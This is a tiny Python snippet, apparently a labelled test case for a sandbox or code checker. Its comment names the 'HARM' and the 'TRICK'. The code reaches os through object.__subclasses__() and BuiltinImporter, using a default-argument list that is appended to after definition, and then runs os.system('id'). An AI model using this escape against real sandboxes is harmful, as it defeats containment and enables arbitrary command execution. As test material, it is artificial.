# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: helper default roots=[Base] list object mutated later via __defaults__-free alias (append on default list)
class Base:
    pass


ROOTS = [Base]


def walk(roots=ROOTS):
    for r in roots:
        for sub in r.__subclasses__():
            yield sub


ROOTS.append(object)
for c in walk():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
